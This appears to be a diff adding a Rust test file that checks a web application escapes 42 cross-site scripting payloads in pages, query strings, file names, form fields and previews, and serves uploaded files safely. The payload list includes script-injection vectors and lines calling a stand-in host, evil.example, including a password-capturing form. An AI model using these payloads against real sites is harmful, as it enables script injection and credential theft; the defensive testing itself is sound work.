@@ -1,0 +1,170 @@
+//! A stranger's words stand in pages as words, and a stranger's bytes never do.
+
+use axum::http::StatusCode;
+use exeat_domain::request::RequestId;
+
+use crate::house::{House, Visitor, encoded};
+use crate::safety::inert;
+
+/// What has run in pages elsewhere.
+const PAYLOADS: [&str; 42] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script/src=data:,alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
+    "<img src=`javascript:alert(1)`>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<object data=\"javascript:alert(1)\">",
+    "<embed src=\"javascript:alert(1)\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\" &#14; javascript:alert(1)\">x</a>",
+    "<form action=\"//evil.example\"><input name=password>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<base href=\"//evil.example/\">",
+    "<link rel=stylesheet href=\"//evil.example/x.css\">",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style=\"background:url(//evil.example)\">",
+    "<div hx-get=\"//evil.example\" hx-trigger=load>",
+    "<div hx-on:click=\"alert(1)\" data-hx-on-load=\"alert(1)\">",
+    "\" onmouseover=\"alert(1)",
+    "' onfocus='alert(1)' autofocus='",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}<%= 7*7 %>${alert(1)}&lt;script&gt;",
+];
+
+/// No payload stands in the page as it was written; each that stands there is escaped.
+fn check(page: &str, what: &str) {
+    for payload in PAYLOADS {
+        assert!(!page.contains(payload), "{what}: {payload} stands in the page");
+    }
+    inert(page);
+}
+
+/// The payload as a cell of a table.
+fn cell(payload: &str) -> String {
+    format!("\"{}\"", payload.replace('"', "\"\""))
+}
+
+/// The payload as a name of a file, which holds no slash.
+fn name(at: usize, payload: &str) -> String {
+    format!("{at} {}.csv", payload.replace('/', "∕"))
+}
+
+#[tokio::test]
+async fn a_strangers_words_stand_in_pages_as_words() {
+    let house = House::new().await;
+    let mut table = String::from("label,patients\n");
+    for payload in PAYLOADS {
+        table += &format!("{},{}\n", cell(payload), 100);
+    }
+    house.put("ann/cells.csv", &table);
+    let head: Vec<String> = PAYLOADS.iter().map(|payload| cell(payload)).collect();
+    house.put("ann/headers.csv", &format!("{}\n{}\n", head.join(","), vec!["3"; head.len()].join(",")));
+    for (at, payload) in PAYLOADS.iter().enumerate() {
+        house.put(&format!("ann/{}", name(at, payload)), "sex,patients\nF,3\nM,400\n");
+    }
+    house.put("ann/drawing.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><script>alert(1)</script><text>hello</text></svg>");
+    let purpose = PAYLOADS.join(" ");
+    let id = house.ask(&["ann", PAYLOADS[0]], &purpose).await;
+    let (mut cleo, mut ann) = (house.visitor("cleo").await, house.visitor("ann_P").await);
+
+    check(&cleo.get("/queue").await.text(), "queue");
+    check(&ann.get("/mine").await.text(), "mine");
+    let (request, _) = house
+        .desk
+        .checker(exeat_domain::ledger::Actor::person("cleo"))
+        .await
+        .unwrap()
+        .show(id)
+        .await
+        .unwrap();
+    let files = request.round().unwrap().files.len();
+    // Some names no share takes up; those are told as problems, which the pages show as well.
+    let problems = request.round().unwrap().problems.len();
+    assert!(files > 30 && problems > 0, "{files} {problems}");
+    let mut told = 0;
+    for file in 1..=files {
+        let page = cleo.get(&format!("/requests/{id}?file={file}")).await;
+        assert_eq!(page.status, StatusCode::OK);
+        check(&page.text(), "request");
+        told += usize::from(page.text().contains("svg onload=alert(1)"));
+        let rows = cleo.get(&format!("/requests/{id}/rounds/1/files/{file}/rows?from=0&count=200")).await;
+        if rows.status == StatusCode::OK {
+            check(&rows.text(), "rows");
+        }
+        let picture = cleo.get(&format!("/requests/{id}/rounds/1/files/{file}/picture")).await;
+        if picture.status == StatusCode::OK {
+            assert_eq!(picture.header("content-type"), "image/png");
+            assert!(picture.body.starts_with(b"\x89PNG"));
+            assert_eq!(
+                picture.header("content-security-policy"),
+                "default-src 'none'; frame-ancestors 'none'; sandbox"
+            );
+        }
+    }
+    assert!(told > 0, "the words are shown, escaped");
+
+    reflected(&house, &mut cleo, id).await;
+    check(&ann.get(&format!("/mine/{id}")).await.text(), "mine");
+}
+
+/// What is typed into forms and addresses comes back as words.
+async fn reflected(house: &House, cleo: &mut Visitor<'_>, id: RequestId) {
+    for payload in PAYLOADS {
+        let back = [("round", "1"), ("file", "1"), ("choice", "return"), ("reason", payload)];
+        cleo.post(&format!("/requests/{id}/decide"), &back).await;
+        check(&cleo.get(&format!("/requests/{id}?file=1")).await.text(), "reason");
+        for path in [
+            format!("/queue?q={}&project={0}&verdict={0}&claim={0}&after={0}", encoded(payload)),
+            format!("/requests/{id}?file=1&find={}&order={0}&flagged={0}", encoded(payload)),
+            format!("/sign-in?to={}&done={0}", encoded(payload)),
+            format!("/{}", encoded(payload)),
+            format!("/requests/{}", encoded(payload)),
+        ] {
+            check(&cleo.get(&path).await.text(), &path);
+        }
+        let form = [("account", payload), ("password", payload), ("to", payload)];
+        check(&house.stranger().post("/sign-in", &form).await.text(), "sign-in");
+    }
+}
+
+#[tokio::test]
+async fn no_bytes_of_a_requester_reach_a_browser() {
+    let house = House::new().await;
+    let secret = "region,patients\nnorth,1234\nsouth,5678\n";
+    house.put("ann/plain.csv", secret);
+    house.put("ann/page.html", "<html><script>alert(1)</script></html>");
+    house.put("ann/poly.png", "\u{89}PNG not really <script>alert(1)</script>");
+    let id = house.ask(&["ann"], "all of it").await;
+    let mut cleo = house.visitor("cleo").await;
+    for file in 1..=5 {
+        for what in ["rows", "picture"] {
+            let answer = cleo.get(&format!("/requests/{id}/rounds/1/files/{file}/{what}")).await;
+            let kind = answer.header("content-type").to_owned();
+            assert!(kind.starts_with("text/html") || kind == "image/png", "{file} {what}: {kind}");
+            let text = String::from_utf8_lossy(&answer.body).into_owned();
+            assert!(!text.contains(secret) && !text.contains("<script>alert"), "{file} {what}");
+            assert_eq!(answer.header("x-content-type-options"), "nosniff");
+        }
+    }
+}
